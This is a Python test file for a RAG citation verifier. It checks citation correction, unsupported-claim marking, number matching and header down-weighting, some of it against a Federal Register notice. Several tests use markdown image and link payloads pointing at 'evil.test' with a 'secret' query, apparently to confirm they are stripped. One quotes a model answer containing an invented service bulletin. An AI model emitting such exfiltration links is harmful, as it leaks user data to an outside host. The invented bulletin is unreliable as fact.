from ingest.types import Chunk
from rag.citations import UNSUPPORTED, best_span, split_answer, strip_foreign_links, verify
from rag.types import Hit

PASSAGES = [
    "The office opens at 9. Every employee receives 27 days of paid annual leave per year. Leave requests go to the team lead.",
    "The warranty lasts 4 years and covers the pump and the boiler. It does not cover the glass carafe.",
]
HITS = [Hit(Chunk(f"c{i}", "d", f"doc{i}.pdf", i + 3, 0, len(t), t), 1.0) for i, t in enumerate(PASSAGES)]


def test_split_answer_reads_markers():
    assert split_answer("Leave is 27 days [1]. The warranty is 4 years [2, 1].") == [
        ("Leave is 27 days.", [1]),
        ("The warranty is 4 years.", [2, 1]),
    ]


def test_correct_citation_is_kept_with_verbatim_quote():
    text, cites, notes = verify("Employees receive 27 days of paid annual leave [1].", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]."
    assert cites[0].source == "doc0.pdf" and cites[0].page == 3
    assert cites[0].quote == "Every employee receives 27 days of paid annual leave per year."
    assert cites[0].quote in HITS[0].chunk.text
    assert notes == []


def test_wrong_citation_is_corrected_and_missing_one_added():
    text, cites, notes = verify("The warranty lasts 4 years [1]. It covers the pump and the boiler.", HITS)
    assert text == "The warranty lasts 4 years [2]. It covers the pump and the boiler [2]."
    assert [c.n for c in cites] == [2]
    assert any("corrected" in n for n in notes) and any("added" in n for n in notes)


def test_two_sentences_in_a_row_of_one_source_are_quoted_as_one():
    """The answer's evidence can be two neighbouring sentences (rag.evidence.best): the
    quote shows both; sentences apart keep the first one's quote."""
    _, cites, _ = verify("Every employee receives 27 days of paid annual leave per year. Leave requests go to the team lead [1].", HITS)
    assert [c.quote for c in cites] == ["Every employee receives 27 days of paid annual leave per year. Leave requests go to the team lead."]
    _, cites, _ = verify("The office opens at 9 [1]. Leave requests go to the team lead [1].", HITS)
    assert [c.quote for c in cites] == ["The office opens at 9."]


def test_unsupported_sentence_is_marked_not_cited():
    text, cites, _ = verify("Paris is the capital of France [1].", HITS)
    assert text == f"Paris is the capital of France. {UNSUPPORTED}"
    assert cites == []


def test_out_of_range_marker_is_replaced():
    text, cites, _ = verify("Leave requests go to the team lead [7].", HITS)
    assert text.endswith("[1].") and cites[0].n == 1


def test_best_span_prefers_one_sentence_and_can_join_two():
    tokens = {"warranti", "pump"}
    span = best_span(tokens, PASSAGES[1])
    assert PASSAGES[1][span.start : span.end] == "The warranty lasts 4 years and covers the pump and the boiler."
    span = best_span({"warranti", "glass", "caraf"}, PASSAGES[1])
    assert span.score == 1.0 and PASSAGES[1][span.start : span.end] == PASSAGES[1]


def test_repeated_sentences_are_dropped():
    text, _, _ = verify("The warranty lasts 4 years [2]. The warranty lasts 4 years [2]. The warranty lasts 4 years.", HITS)
    assert text == "The warranty lasts 4 years [2]."


def test_links_and_images_not_in_the_sources_are_removed():
    hits = HITS + [Hit(Chunk("c9", "d", "links.md", 1, 0, 10, "Docs live at https://example.org/docs for everyone."), 1.0)]
    answer = "See ![x](https://evil.test/?q=secret) the [manual](https://evil.test/m) or https://evil.test/a and [docs](https://example.org/docs)."
    out = strip_foreign_links(answer, hits)
    assert "evil.test" not in out and "![" not in out
    assert "the manual or" in out and "docs (https://example.org/docs)" in out


def test_a_wrong_number_is_not_supported_by_otherwise_matching_words():
    text, cites, _ = verify("Every employee receives 30 days of paid annual leave per year [1].", HITS)
    assert text.endswith(UNSUPPORTED) and cites == []
    text, cites, _ = verify("Every employee receives 27 days of paid annual leave [1].", HITS)
    assert cites and cites[0].n == 1


def test_echoing_the_question_is_not_support_for_a_new_claim():
    question = "How long does the warranty last?"
    text, cites, _ = verify("The warranty lasts for the lifetime of the owner [2].", HITS, question)
    assert cites == [] and text.endswith(UNSUPPORTED), "its new words (lifetime, owner) are in no source"
    text, cites, _ = verify("The warranty lasts 4 years [2].", HITS, question)
    assert [c.n for c in cites] == [2]


def test_nested_links_cannot_leave_a_foreign_image_behind():
    """Removing the inner image once joined "![" and "](//evil…)" into a new image."""
    for answer in ["[![x](a)](//evil.test/p.png?q=secret)", "![![x](a)](//evil.test/p.png?q=secret)"]:
        out = strip_foreign_links(answer, HITS)
        assert "](" not in out, out


def test_repeated_markers_cite_each_source_once():
    assert split_answer("Leave is 27 days [1][1] [2, 1].") == [("Leave is 27 days.", [1, 2])]
    text, _, _ = verify("Employees receive 27 days of paid annual leave [1][1].", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]."


def test_marker_goes_before_the_final_punctuation():
    text, _, _ = verify("Employees receive 27 days of paid annual leave?!", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]?!"


# ---------------------------------------------------------------- what the claim says (#13, part 1)

import re  # noqa: E402
from pathlib import Path  # noqa: E402

import pytest  # noqa: E402

from ingest.types import Page  # noqa: E402
from rag.citations import check, numbers, numbers_hold, rarity_weights, split_clauses  # noqa: E402
from ingest.lexical import tokenize  # noqa: E402

FEDERAL_REGISTER = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "pdfs" / "federal-register-2020-17221.pdf"
AIRPLANES = "Which airplane models does the proposed airworthiness directive apply to?"


def _hits(texts: list[str]) -> list[Hit]:
    return [Hit(Chunk(f"h{i}", "d", f"doc{i}.pdf", i + 1, 0, len(t), t), 1.0) for i, t in enumerate(texts)]


def test_numbers_are_normalised_so_an_identifier_is_one_number():
    assert numbers("Bulletin 737–31–\n1860, dated June 12, 2020") == {"737-31-1860", "12", "2020"}
    assert numbers("1\u2009200 and 3\u00a0000 and 4,500") == {"1200", "3000", "4500"}
    assert numbers("in 2019 150 people") == {"2019", "150"}, "a plain space is no thousands separator"
    have = numbers("the Model 737–8, from 1754–1763, Bulletin 737–31–1860")
    assert numbers_hold({"737", "1763", "737-31-1860"}, have)
    assert not numbers_hold({"31"}, have) and not numbers_hold({"737-31-1900"}, have)


def test_a_frequent_header_cannot_carry_a_rare_claim():
    """Every page starts with the court's header: its words are everywhere, the claim's are not."""
    header = "SUPREME COURT OF THE UNITED STATES."
    pages = [f"{header} The witness described the night of the fire.", f"{header} Counsel asked about the insurance policy.",
             f"{header} The jury retired at noon.", f"{header} The judge adjourned until Monday."]
    hits, question = _hits(pages), "What was the final verdict?"
    claim = "The Supreme Court ruled in favor of the United States [1]."
    weights = rarity_weights(tokenize(p) for p in pages)
    assert check(claim, hits, question).citations, "word overlap alone accepts the header (the old check)"
    checked = check(claim, hits, question, weights)
    assert checked.citations == [] and checked.text == "" and checked.unsupported == ["The Supreme Court ruled in favor of the United States."]
    assert check("The jury retired at noon [3].", hits, question, weights).citations[0].n == 3


def test_a_sentence_is_split_at_a_clause_boundary_when_its_halves_come_from_two_sources():
    checked = check("Employees receive 27 days of paid annual leave, and the warranty lasts 4 years.", HITS)
    assert checked.text == "Employees receive 27 days of paid annual leave [1], and the warranty lasts 4 years [2]."
    assert [c.n for c in checked.citations] == [1, 2] and checked.unsupported == []
    assert split_clauses("A, and B; C") == [("", "A"), (", ", "and B"), ("; ", "C")]


def test_a_clause_no_source_holds_is_cut_off_and_returned_apart():
    checked = check("The warranty lasts 4 years, and it covers the engine of the car [2].", HITS)
    assert checked.text == "The warranty lasts 4 years [2]."
    assert checked.unsupported == ["and it covers the engine of the car."]


def test_two_sources_jointly_support_a_sentence_neither_holds_alone():
    hits = _hits(["The Kestrel boiler was released in 2019.", "The Kestrel boiler holds 12 litres of water."])
    checked = check("The Kestrel boiler, released in 2019, holds 12 litres [1].", hits, "Tell me about the Kestrel boiler")
    assert [c.n for c in checked.citations] == [1, 2] and checked.text.endswith("[1][2].")
    assert check("The Kestrel boiler, released in 2019, holds 14 litres [1].", hits).citations == [], "a wrong number stays wrong"


@pytest.fixture(scope="module")
def federal_register():
    """The Federal Register notice as Sourced indexes it: loaded, chunked, with its idf."""
    if not FEDERAL_REGISTER.exists():
        pytest.skip(f"shared data is absent: {FEDERAL_REGISTER} (the federal-register PDF of ../shared/data/pdfs)")
    from ingest.chunking import chunk_pages
    from ingest.lexical import chunk_tokens
    from ingest.loaders import load

    chunks = chunk_pages(load(FEDERAL_REGISTER), "fr")
    return chunks, rarity_weights(chunk_tokens(chunks))


def _passage(chunks, words: str) -> Hit:
    return Hit(next(c for c in chunks if " ".join(words.split()) in " ".join(c.text.split())), 1.0)


def test_federal_register_airplanes_answer_combining_two_passages_cites_both(federal_register):
    """Summary: 'Model 737–8 and 737–9 (737 MAX) airplanes'; applicability: only those in
    Service Bulletin 737–31–1860 of June 12, 2020. Neither passage holds every number."""
    chunks, weights = federal_register
    hits = [_passage(chunks, "which applies to all The Boeing Company Model 737–8"), _passage(chunks, "would apply only to the 737 MAX"),
            _passage(chunks, "federalism implications")]
    answer = "The proposed AD would apply to the Boeing Model 737–8 and 737–9 (737 MAX) airplanes identified in Service Bulletin 737–31–1860, dated June 12, 2020 [2]."
    checked = check(answer, hits, AIRPLANES, weights)
    assert [c.n for c in checked.citations] == [1, 2], checked.notes
    assert checked.unsupported == [] and checked.text.endswith("[1][2].")
    for c in checked.citations:
        assert c.quote in hits[c.n - 1].chunk.text
    split = check("The proposed AD would apply to Model 737–8 and 737–9 airplanes [1], and only to those identified in Service Bulletin 737–31–1860 [2].", hits, AIRPLANES, weights)
    assert re.fullmatch(r".*airplanes \[1\], and only .*1860 \[2\]\.", split.text), split.text
    # what the bundled model wrote here: its second bulletin (737–31–1900, "737 MAX 8") is in no passage
    invented = ("The proposed amendment applies to the 737 MAX airplanes identified in Boeing Special Attention Service Bulletin 737–31–1860, dated June 12, 2020, "
                "and the 737 MAX 8 airplanes identified in Boeing Special Attention Service Bulletin 737–31–1900, dated June 12, 2020.")
    checked = check(invented, hits, AIRPLANES, weights)
    assert [c.n for c in checked.citations] == [2] and checked.text.endswith("2020 [2].")
    assert len(checked.unsupported) == 1 and "737–31–1900" in checked.unsupported[0]


def test_federal_register_running_header_is_no_support(federal_register):
    """The notice's running header, on every page as a PDF whose header was not removed
    would have it: its words are everywhere, so they cannot carry a claim about a ruling."""
    chunks, _ = federal_register
    header = "Federal Register / Vol. 85, No. 152 / Thursday, August 6, 2020 / Proposed Rules."
    pages = [Page("fr.pdf", p, header + "\n" + "\n".join(c.text for c in chunks if c.page == p)) for p in sorted({c.page for c in chunks})]
    from ingest.chunking import chunk_pages
    from ingest.lexical import chunk_tokens

    with_header = chunk_pages(pages, "frh")
    weights = rarity_weights(chunk_tokens(with_header))
    hits = [Hit(c, 1.0) for c in with_header[:5]]
    claim = "The Federal Register ruled in favor of the proposed rules on Thursday, August 6, 2020 [1]."
    assert check(claim, hits, "What was the final verdict?").citations, "word overlap alone accepts the header"
    checked = check(claim, hits, "What was the final verdict?", weights)
    assert checked.citations == [] and checked.unsupported
